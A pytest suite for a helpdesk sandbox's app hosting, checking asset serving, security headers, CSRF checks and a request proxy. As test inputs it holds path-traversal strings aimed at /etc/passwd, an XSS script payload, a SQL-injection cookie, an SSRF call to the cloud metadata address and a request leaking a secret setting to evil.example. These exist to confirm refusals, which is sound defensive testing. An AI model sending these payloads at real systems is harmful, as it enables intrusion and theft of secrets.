"""The addresses through which apps live on the desk: their files, the proxy, the ticket they see, and who is kept out.
They know the addresses as a browser does, never how an app is stored."""

from __future__ import annotations

import io
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from flask.testing import FlaskClient

from sandbox.app import create_app
from sandbox.hosting import APPS_NAME
from sandbox.settings import SandboxSettings
from tests.sandbox.caller import READY, Api, Clock
from tests.sandbox.tiny_app import KEY, MANIFEST, install, package

APPS = f"http://{APPS_NAME}"
DESK = "http://localhost"


@pytest.fixture
def settings(tmp_path: Path) -> SandboxSettings:
    """A desk in memory, with something in the place of the SDK."""
    (tmp_path / "zaf_sdk.js").write_text("window.ZAFClient = {};")
    return SandboxSettings(db_path=":memory:", ready_token=READY, public_url=DESK, sdk_folder=tmp_path)


@pytest.fixture
def api(settings: SandboxSettings, clock: Clock) -> Iterator[Api]:
    """The integration at a fresh desk."""
    app = create_app(settings, clock=clock)
    yield Api(app, clock)
    app.extensions["sandbox"].state.close()


def put_in(api: Api, content: bytes | None = None, **more: Any) -> int:
    """Install the tiny app over the API."""

    def ask(method: str, path: str, json: Any = None, files: Any = None) -> Any:
        if files is None:
            return api.made(method, path, json)
        form = {name: (io.BytesIO(held), f"{name}.zip") for name, held in files.items()}
        return api.made(method, path, data=form, content_type="multipart/form-data")

    return install(ask, content, **more)


@pytest.fixture
def tiny(api: Api) -> int:
    """The tiny app's installation."""
    return put_in(api)


@pytest.fixture
def client(api: Api) -> FlaskClient:
    """A browser on this machine."""
    return api.app.test_client()


def shown(client: FlaskClient, ticket_id: int) -> dict[str, Any]:
    """What a ticket's page gives to its script."""
    page = BeautifulSoup(client.get(f"/desk/tickets/{ticket_id}").text, "html.parser")
    place = page.select_one("[data-host]")
    assert place is not None
    return dict(json.loads(str(place["data-host"])))


def be(client: FlaskClient, api: Api, email: str) -> None:
    client.set_cookie("desk_agent", str(api.user(email)["id"]))


def request(client: FlaskClient, api: Api, tiny: int, options: Any, **more: Any) -> Any:
    """Call the proxy as the page's script does; gives the answer that the app gets."""
    token = shown(client, api.ticket()["id"])["token"]
    answer = client.post(f"/desk/apps/{tiny}/request", json=options, headers={"X-CSRF-Token": token, **more})
    assert answer.status_code == 200, answer.text
    return answer.get_json()


# --- files -----------------------------------------------------------------------------------------------------------


def test_a_page_loads_our_copy_of_the_sdk(client: FlaskClient, tiny: int) -> None:
    """An app's page comes as it was uploaded, but for the SDK's address, under a policy of its own."""
    page = client.get(f"/desk/apps/{tiny}/assets/page.html?origin=x&app_guid=y", base_url=APPS)
    assert page.status_code == 200
    assert page.content_type == "text/html; charset=utf-8"
    assert "zdassets" not in page.text
    assert '<script src="/desk/apps/sdk.js">' in page.text
    policy = page.headers["Content-Security-Policy"]
    for part in ("default-src 'none'", "script-src 'self'", "connect-src 'none'", "form-action 'none'"):
        assert part in policy
    assert re.search(r"frame-ancestors http://127\.0\.0\.1 http://localhost$", policy)
    assert client.get("/desk/apps/sdk.js", base_url=APPS).text == "window.ZAFClient = {};"


@pytest.mark.parametrize(
    ("name", "kind"),
    [("a.js", "text/javascript; charset=utf-8"), ("deep/a.css", "text/css; charset=utf-8"), ("a.png", "image/png"),
     ("a.svg", "image/svg+xml"), ("words/de.json", "application/json")],
)  # fmt: skip
def test_files_have_their_types(api: Api, client: FlaskClient, name: str, kind: str) -> None:
    """A browser is told what each file is, and that it is that and nothing else; a second look costs no bytes."""
    tiny = put_in(api, package(**{name: b"held"}))
    found = client.get(f"/desk/apps/{tiny}/assets/{name}", base_url=APPS)
    assert (found.status_code, found.data, found.content_type) == (200, b"held", kind)
    assert found.headers["X-Content-Type-Options"] == "nosniff"
    again = client.get(
        f"/desk/apps/{tiny}/assets/{name}", base_url=APPS, headers={"If-None-Match": found.headers["ETag"]}
    )
    assert again.status_code == 304


TRICKS = [
    "../manifest.json", "..%2fmanifest.json", "%2e%2e/manifest.json", "./page.html", "/etc/passwd", "//etc/passwd",
    "..\\manifest.json", "page.html%00.js", "PAGE.HTML", "", "deep/", "page.html/", "nothing.js", "program.exe",
    "../../../../etc/passwd", "....//manifest.json", "assets/page.html", "huge.txt",
]  # fmt: skip


@pytest.mark.parametrize("trick", TRICKS)
def test_path_tricks(api: Api, client: FlaskClient, trick: str) -> None:
    """Only files below assets, by their very names: nothing else of the zip, and nothing of this machine."""
    files: dict[str, Any] = {"program.exe": b"MZ", "../up.js": "stolen", "huge.txt": b"0" * 5_000_001}
    tiny = put_in(api, package(**files))
    answer = client.get(f"/desk/apps/{tiny}/assets/{trick}", base_url=APPS)
    assert answer.status_code in (403, 404)
    assert "frameworkVersion" not in answer.text


@pytest.mark.parametrize("base", [DESK, "http://127.0.0.1:4000"])
def test_files_are_not_served_as_the_desk(client: FlaskClient, tiny: int, base: str) -> None:
    """Under the desk's own name an app's page would be the desk to a browser: there it is not found."""
    assert client.get(f"/desk/apps/{tiny}/assets/page.html", base_url=base).status_code == 404


@pytest.mark.parametrize("path", ["/desk/", "/desk/tickets/1", "/desk/apps/tickets/1", "/desk/apps/nav/900001", "/"])
def test_the_desk_is_not_served_as_an_app(api: Api, client: FlaskClient, tiny: int, path: str) -> None:
    """Under the apps' name there is nothing of the desk that an app could open and read."""
    api.ticket()
    assert client.get(path, base_url=DESK).status_code in (200, 302)
    assert client.get(path, base_url=APPS).status_code in (403, 404)


@pytest.mark.parametrize("path", ["/api/v2/users/me.json", "/sandbox/calls", "/oauth/tokens"])
def test_the_api_is_not_served_as_an_app(client: FlaskClient, path: str) -> None:
    """Nor anything of the API, or of the control plane."""
    headers = {"Authorization": f"Bearer {READY}"}
    assert client.get(path, base_url=APPS, headers=headers).status_code == 403


def test_apps_that_are_off_are_gone(api: Api, client: FlaskClient, tiny: int) -> None:
    """A switched-off installation shows nothing and answers nothing."""
    ticket_id = api.ticket()["id"]
    assert [one["installationId"] for one in shown(client, ticket_id)["frames"]] == [tiny, tiny]
    api.made("PUT", f"/api/v2/apps/installations/{tiny}.json", {"enabled": False})
    assert shown(client, ticket_id)["frames"] == []
    assert client.get(f"/desk/apps/{tiny}/assets/page.html", base_url=APPS).status_code == 404


def test_apps_from_elsewhere_are_not_framed(api: Api, client: FlaskClient) -> None:
    """An app whose page stands on another server, or nowhere, is left out, and the ticket's page works."""
    far: Any = {"support": {"ticket_sidebar": "https://apps.example/page.html", "background": {"url": "../x.html"}}}
    put_in(api, package(MANIFEST | {"location": far}))
    assert shown(client, api.ticket()["id"])["frames"] == []


def test_strangers_are_kept_out(client: FlaskClient, tiny: int) -> None:
    """Another machine gets nothing of an app."""
    answer = client.get(f"/desk/apps/{tiny}/assets/page.html", base_url=APPS, environ_base={"REMOTE_ADDR": "192.0.2.7"})
    assert answer.status_code == 403


def test_a_desk_has_one_address(client: FlaskClient, settings: SandboxSettings, clock: Clock) -> None:
    """What apps sign names the account's address, so that the other name of this machine leads there."""
    app = create_app(replace(settings, public_url="http://127.0.0.1:4000"), clock=clock)
    browser = app.test_client()
    led = browser.get("/desk/?q=a+b", base_url="http://localhost:4000")
    assert (led.status_code, led.headers["Location"]) == (302, "http://127.0.0.1:4000/desk/?q=a+b")
    assert browser.get("/desk/", base_url="http://127.0.0.1:4000").status_code == 200
    assert browser.get("/desk/", base_url="http://localhost:5000").status_code == 200
    assert client.get("/desk/", base_url=DESK).status_code == 200
    app.extensions["sandbox"].state.close()


# --- what the page tells its script -----------------------------------------------------------------------------------


def test_secrets_stay_on_the_server(api: Api, client: FlaskClient, tiny: int) -> None:
    """An app learns its open settings; of the secure ones nothing stands in any page."""
    page = client.get(f"/desk/tickets/{api.ticket()['id']}")
    assert KEY not in page.text
    assert "open-sesame" not in page.text
    known = shown(client, api.ticket()["id"])["frames"][0]["metadata"]
    assert known["settings"] == {"server": "http://127.0.0.1:9"}
    assert KEY not in client.get(f"/desk/apps/nav/{tiny}").text


def test_hostile_names_are_text(api: Api, client: FlaskClient) -> None:
    """An app's title and its settings cannot break out of the page."""
    words = "</aside><script>alert(1)</script>' \""
    put_in(api, title=words, server=f"http://127.0.0.1/{words}")
    ticket_id = api.ticket()["id"]
    page = BeautifulSoup(client.get(f"/desk/tickets/{ticket_id}").text, "html.parser")
    assert page.select("script:not([src])") == []
    heading = page.select_one(".apps h2")
    assert heading is not None
    assert heading.text == words
    assert shown(client, ticket_id)["frames"][0]["metadata"]["name"] == words


def test_only_pages_with_apps_may_frame_them(api: Api, client: FlaskClient, tiny: int) -> None:
    """The ticket's page and an app's own page may frame the apps' name and nothing else; other pages frame nothing."""
    ticket_id = api.ticket()["id"]
    for path in (f"/desk/tickets/{ticket_id}", f"/desk/apps/nav/{tiny}"):
        policy = client.get(path, base_url="http://127.0.0.1:4000").headers["Content-Security-Policy"]
        assert re.findall(r"frame-src [^;]*", policy) == ["frame-src http://apps.localhost:4000"]
        assert "frame-ancestors 'none'" in policy
        assert "unsafe" not in policy
    assert APPS_NAME not in client.get("/desk/").headers["Content-Security-Policy"]


def test_without_the_sdk_the_desk_says_why(settings: SandboxSettings, tmp_path: Path, clock: Clock) -> None:
    """The ticket's page works without the SDK; in the apps' place stands what to run."""
    app = create_app(replace(settings, sdk_folder=tmp_path / "nothing"), clock=clock)
    api = Api(app, clock)
    put_in(api)
    page = app.test_client().get(f"/desk/tickets/{api.ticket()['id']}")
    assert "Run `python -m sandbox sdk` once" in page.text
    assert "<iframe" not in page.text
    app.extensions["sandbox"].state.close()


def test_the_ticket_as_apps_get_it(api: Api, client: FlaskClient, tiny: int) -> None:
    """Ticket, people and words come under the client API's names; a note is a comment, and no conversation."""
    field = api.tagger("calm", "charged")
    ticket = api.ticket(tags=["vip"], priority="high", custom_fields=[{"id": field["id"], "value": "charged"}])
    api.update(ticket["id"], comment={"body": "Between us", "public": False})
    found = client.get(f"/desk/apps/tickets/{ticket['id']}").get_json()
    assert (found["id"], found["subject"], found["status"], found["priority"]) == (1, "Late parcel", "new", "high")
    assert found["tags"] == ["charged", "vip"]
    assert found["requester"]["email"] == "priya@customer.example"
    assert found["via"] == {"channel": "api"}
    assert found["customFields"][f"custom_field_{field['id']}"] == "charged"
    assert [comment["public"] for comment in found["comments"]] == [True, False]
    assert [said["message"]["contentType"] for said in found["conversation"]] == ["text/html"]
    assert client.get("/desk/apps/tickets/999").status_code == 404


def test_the_menu_and_the_page_of_an_app(client: FlaskClient, tiny: int) -> None:
    """An app with a page of its own is opened by its installation; one without is not found."""
    page = client.get(f"/desk/apps/nav/{tiny}")
    assert page.status_code == 200
    assert "<h1>Tiny</h1>" in page.text
    assert client.get("/desk/apps/nav/1").status_code == 404


# --- the proxy --------------------------------------------------------------------------------------------------------


def test_the_api_is_asked_as_the_agent(api: Api, client: FlaskClient, tiny: int) -> None:
    """A path of the API runs in the name of who sits at the desk, and leaves no token behind."""
    be(client, api, "sam@sandbox.example")
    got = request(client, api, tiny, {"url": "/api/v2/users/me.json", "headers": {"Authorization": f"Bearer {READY}"}})
    assert got["status"] == 200
    assert json.loads(got["body"])["user"]["email"] == "sam@sandbox.example"
    assert api.app.extensions["sandbox"].state.list("token") == []


@pytest.mark.parametrize(
    ("email", "options", "status"),
    [
        ("lee@sandbox.example", {"url": "/api/v2/tickets/1.json", "type": "PUT", "contentType": "application/json",
                                 "data": '{"ticket": {"status": "solved"}}'}, 403),
        ("sam@sandbox.example", {"url": "/api/v2/apps.json", "type": "POST", "data": "{}"}, 403),
        ("sam@sandbox.example", {"url": "/api/v2/tickets/1.json", "type": "PUT", "contentType": "application/json",
                                 "data": '{"ticket": {"status": "solved"}}'}, 200),
        ("sam@sandbox.example", {"url": "/api/v2/tickets/999.json"}, 404),
    ],
)  # fmt: skip
def test_an_app_may_what_its_agent_may(
    api: Api, client: FlaskClient, tiny: int, email: str, options: Any, status: int
) -> None:
    """A light agent's app changes no ticket and an agent's app installs none: the API's own rules hold."""
    be(client, api, email)
    assert request(client, api, tiny, options)["status"] == status


@pytest.mark.parametrize("cookie", ["0", "nobody", "' OR 1=1", "Uma Unwell", "Attune"])
def test_odd_cookies_are_nobody(api: Api, client: FlaskClient, tiny: int, cookie: str) -> None:
    """A cookie that names no agent, a suspended one or a program leaves the desk to its first agent."""
    named = {user["name"]: user["id"] for user in api.read("/api/v2/users.json", role="agent")["users"]}
    client.set_cookie("desk_agent", str(named.get(cookie, cookie)))
    got = request(client, api, tiny, {"url": "/api/v2/users/me.json"})
    assert json.loads(got["body"])["user"]["email"] == "ada@sandbox.example"


@pytest.mark.parametrize(
    "options",
    [
        {"url": "https://169.254.169.254/latest/meta-data/"},
        {"url": "http://localhost/sandbox/tokens", "type": "POST"},
        {"url": "/sandbox/tokens", "type": "POST"},
        {"url": "https://evil.example/", "secure": True, "headers": {"X": "{{setting.pass_phrase}}"}},
    ],
)
def test_the_proxy_refuses_as_an_answer(api: Api, client: FlaskClient, tiny: int, options: Any) -> None:
    """What the proxy does not carry comes back to the app as a failed request that says why."""
    got = request(client, api, tiny, options)
    assert got["status"] == 400
    assert json.loads(got["body"])["error"] == "Proxy error: Invalid request"
    assert "open-sesame" not in got["body"]


@pytest.mark.parametrize("token", [None, "", "guess", "x" * 43])
def test_the_proxy_takes_calls_of_its_own_page(client: FlaskClient, tiny: int, token: str | None) -> None:
    """A call without the page's token does nothing, wherever it comes from."""
    headers = {} if token is None else {"X-CSRF-Token": token}
    answer = client.post(f"/desk/apps/{tiny}/request", json={"url": "/api/v2/users/me.json"}, headers=headers)
    assert answer.status_code == 403


@pytest.mark.parametrize("body", ["", "[]", "1", "not json", '"text"'])
def test_the_proxy_takes_options(api: Api, client: FlaskClient, tiny: int, body: str) -> None:
    """A body that is no JSON object is refused."""
    token = shown(client, api.ticket()["id"])["token"]
    headers = {"X-CSRF-Token": token, "Content-Type": "application/json"}
    assert client.post(f"/desk/apps/{tiny}/request", data=body, headers=headers).status_code == 400
